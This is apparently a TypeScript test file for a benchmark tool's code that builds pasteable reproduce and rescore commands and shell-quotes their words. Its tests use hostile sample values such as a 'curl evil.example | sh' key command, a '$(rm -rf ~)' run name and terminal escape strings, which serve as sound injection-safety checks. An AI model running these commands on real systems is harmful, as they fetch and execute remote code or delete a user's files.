import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { execa } from "execa";
import { describe, expect, it } from "vitest";
import type { Manifest } from "../../src/core/manifest.ts";
import type { TrialSpec } from "../../src/core/trial.ts";
import {
  listBeyondFlags,
  toOpenCommand,
  toReproduceCommand,
  toRescoreCommand,
} from "../../src/report/reproduce.ts";
import { toShellWord } from "../../src/report/shell-word.ts";
import { repository } from "../support/buildoff.ts";
import { makeManifest, makeTrial } from "../support/results.ts";
import { makeTemporaryFolder } from "../support/temporary.ts";

const STARTER = join(repository, "tasks", "starter");
const CLI = `${process.execPath} --disable-warning=ExperimentalWarning ${join(repository, "src", "cli.ts")}`;

/** The trials that a command line plans, without starting any. */
async function plan(command: string): Promise<TrialSpec[]> {
  const line = `${command.replace(/^buildoff/, CLI)} --dry-run --json`;
  const { stdout } = await execa("bash", ["-c", line], { cwd: repository });
  return (JSON.parse(stdout) as { readonly trials: TrialSpec[] }).trials;
}

describe("the command that repeats a trial", () => {
  it("names task, language, seed, agent, model, limits and sandbox", () => {
    const trial = makeTrial("t", { agent: "loop", model: "lab/m", language: "ur", seed: 3 });
    const made = makeManifest([trial]);
    const manifest: Manifest = {
      ...made,
      tasks: made.tasks.map((task) => ({ ...task, promptHash: { en: "a", ur: "b" } })),
      models: made.models.map((model) => ({
        ...model,
        asked: { name: "lab/m", baseUrl: "http://127.0.0.1:1/v1", temperature: 0 },
      })),
      limits: { asked: { wallTime: 1_200_000, cost: 1.5, idleTime: 90_500 }, enforced: {} },
      gradeAtMs: [3_600_000, 90_000],
      network: { allowHosts: ["127.0.0.1:1", "*.lab"], proxy: null, caFile: "/etc/my ca.pem" },
      modelsFiles: [{ file: "/m.yaml", hash: "a" }],
    };
    expect(toReproduceCommand(manifest, trial)).toBe(
      "buildoff run /suites/demo --task a-task --language ur --seed 3 --agent loop --tools none --model lab/m" +
        " --base-url http://127.0.0.1:1/v1 --temperature 0 --models-file /m.yaml --wall-time 20m --max-trial-cost 1.5" +
        " --idle-time 90500ms --grade-at 1h,90s --allow-hosts '127.0.0.1:1,*.lab' --ca-file '/etc/my ca.pem' --sandbox docker",
    );
    expect(listBeyondFlags(manifest, trial)).toEqual([]);
  });

  it("plans the very same experiment again", async () => {
    const keyFile = join(await makeTemporaryFolder(), "key");
    await writeFile(keyFile, "a-key");
    const asked =
      `buildoff run ${STARTER} --agent loop --model openai/gpt-test --key-file ${keyFile} --temperature 0.2` +
      " --model-seed 7 --tools arena --seed 2 5 -k 2 --max-tokens 1000 --wall-time 90s";
    const trials = await plan(asked);
    const trial = trials.at(-1)!;
    const made = makeManifest([trial]);
    const manifest: Manifest = {
      ...made,
      suite: { ...made.suite, folder: STARTER },
      agents: made.agents.map((agent) => ({ ...agent, settings: { ...agent.settings, tools: "arena" } })),
      models: made.models.map((model) => ({
        ...model,
        asked: { name: model.name, keyFile, temperature: 0.2, seed: 7 },
      })),
      limits: { asked: { tokens: 1_000, wallTime: 90_000 }, enforced: {} },
    };
    const [again, ...others] = await plan(toReproduceCommand(manifest, trial));
    expect(others).toEqual([]);
    expect(again).toMatchObject({ fingerprint: trial.fingerprint, task: trial.task, seed: 5 });
  });

  it("holds no command of the run's own, which would run on the machine of who pastes it", () => {
    const trial = makeTrial("t", { agent: "loop", model: "lab/m" });
    const made = makeManifest([trial]);
    const models = made.models.map((model) => ({
      ...model,
      asked: { name: model.name, keyCommand: "curl evil.example | sh" },
    }));
    const manifest: Manifest = { ...made, models };
    expect(toReproduceCommand(manifest, trial)).not.toContain("evil.example");
    expect(listBeyondFlags(manifest, trial)).toContain("keyCommand of the model lab/m");
  });

  it("says what only a run file can say", () => {
    const trial = makeTrial("t", { agent: "mine", model: "lab/m" });
    const made = makeManifest([trial]);
    const manifest: Manifest = {
      ...made,
      agents: made.agents.map((agent) => ({
        ...agent,
        agent: "command",
        settings: { ...agent.settings, command: "./it's mine", image: "hash", version: "2" },
      })),
      models: made.models.map((model) => ({
        ...model,
        asked: { name: "lab/m", headers: { "x-team": "a" } },
      })),
      limits: { asked: { memory: 1_000_000_000 }, enforced: {} },
    };
    expect(listBeyondFlags(manifest, trial)).toEqual([
      "the label of the agent mine",
      "the dockerfile of the agent mine",
      "the version of the agent mine",
      "headers of the model lab/m",
      "the limit memory",
    ]);
    expect(toReproduceCommand(manifest, trial)).toContain(
      String.raw`--agent command --command './it'\''s mine'`,
    );
  });

  it("quotes what a shell would read otherwise", () => {
    expect(toOpenCommand({ run: "results/my run", sandbox: "docker" }, "t")).toBe(
      "buildoff open 'results/my run' t",
    );
    expect(toRescoreCommand({ run: "$(rm -rf ~)", sandbox: "local" }, "t")).toBe(
      "buildoff rescore '$(rm -rf ~)' --trial t --sandbox local",
    );
  });
});

describe("a word of a shell's command line", () => {
  it.each([
    "",
    "plain",
    "a b",
    "it's",
    "$HOME `id` \\",
    "a\nb",
    "\u001b[31m\\'",
    "\u202Eabc",
    "سلام",
    "-x",
    "*",
  ])("is read as %j", async (text) => {
    const { stdout } = await execa("bash", ["-c", `printf %s ${toShellWord(text)}`], {
      env: { LC_ALL: "C.UTF-8" },
      stripFinalNewline: false,
    });
    expect(stdout).toBe(text);
  });

  it("shows nothing that a terminal would act upon", () => {
    expect(toShellWord("\u001b[2J\u0007\u202E")).toBe(String.raw`$'\u001b[2J\u0007\u202e'`);
  });
});
